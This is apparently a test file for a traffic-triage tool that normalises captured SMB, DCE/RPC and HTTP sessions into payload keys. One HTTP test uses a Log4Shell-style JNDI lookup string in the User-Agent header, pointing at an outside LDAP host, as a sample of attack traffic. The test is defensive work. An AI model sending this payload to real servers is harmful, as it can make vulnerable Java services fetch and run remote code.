import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { clientPayload, payloadKey } from '../../src/triage/index.ts';
import { dcerpcBind, httpRequest, smb1Message, testSession } from './triage-sessions.ts';

const keyOf = (session: ReturnType<typeof testSession>, protocol: string, kind = 'x') =>
  payloadKey(clientPayload(session), { kind, protocol, clientIp: session.client.ip, serverIp: session.server.ip }).key;

describe('normalised payload key', () => {
  it('SMB process, user, multiplex and tree ids do not change the key; the command does', () => {
    const first = testSession({ serverPort: 445, turns: [['to_server', smb1Message(0x72, { pid: 100, uid: 0, mid: 1, tid: 0 })]] });
    const second = testSession({ client: '10.9.9.9', serverPort: 445, turns: [['to_server', smb1Message(0x72, { pid: 4242, uid: 7, mid: 99, tid: 3 })]] });
    const other = testSession({ serverPort: 445, turns: [['to_server', smb1Message(0x73, { pid: 100, uid: 0, mid: 1, tid: 0 })]] });
    assert.equal(keyOf(first, 'smb1'), keyOf(second, 'smb1'));
    assert.notEqual(keyOf(first, 'smb1'), keyOf(other, 'smb1'));
  });

  it('DCE/RPC call ids are masked', () => {
    const a = testSession({ serverPort: 135, turns: [['to_server', dcerpcBind(1)]] });
    const b = testSession({ serverPort: 135, turns: [['to_server', dcerpcBind(77)]] });
    assert.equal(keyOf(a, 'dcerpc'), keyOf(b, 'dcerpc'));
  });

  it('HTTP Host, Date and Cookie values and the peers\' addresses are masked; the attack header is kept', () => {
    const attack = '${jndi:ldap://203.0.113.9:1389/a}';
    const a = testSession({ server: '10.0.0.10', serverPort: 8080, turns: [['to_server', httpRequest('/', { Host: '10.0.0.10:8080', 'User-Agent': attack, Cookie: 'JSESSIONID=1', Date: 'Mon' })]] });
    const b = testSession({ server: '10.7.7.7', serverPort: 80, turns: [['to_server', httpRequest('/', { Host: '10.7.7.7', 'User-Agent': attack, Cookie: 'JSESSIONID=999999', Date: 'Tuesday' })]] });
    const c = testSession({ server: '10.7.7.7', serverPort: 80, turns: [['to_server', httpRequest('/', { Host: '10.7.7.7', 'User-Agent': 'curl/8', Cookie: 'x', Date: 'Tue' })]] });
    assert.equal(keyOf(a, 'http'), keyOf(b, 'http'));
    assert.notEqual(keyOf(a, 'http'), keyOf(c, 'http'));
  });

  it('the service kind is part of the key; the masked ranges are reported', () => {
    const session = testSession({ serverPort: 445, turns: [['to_server', smb1Message(0x72, { pid: 1, uid: 0, mid: 1, tid: 0 })]] });
    assert.notEqual(keyOf(session, 'smb1', 'microsoft-ds'), keyOf(session, 'smb1', 'netbios-ssn'));
    const { masked } = payloadKey(clientPayload(session), { kind: 'microsoft-ds', protocol: 'smb1', clientIp: '', serverIp: '' });
    assert.ok(masked.some(([start, end]) => start <= 4 + 30 && end >= 4 + 32), 'MID masked');
  });
});
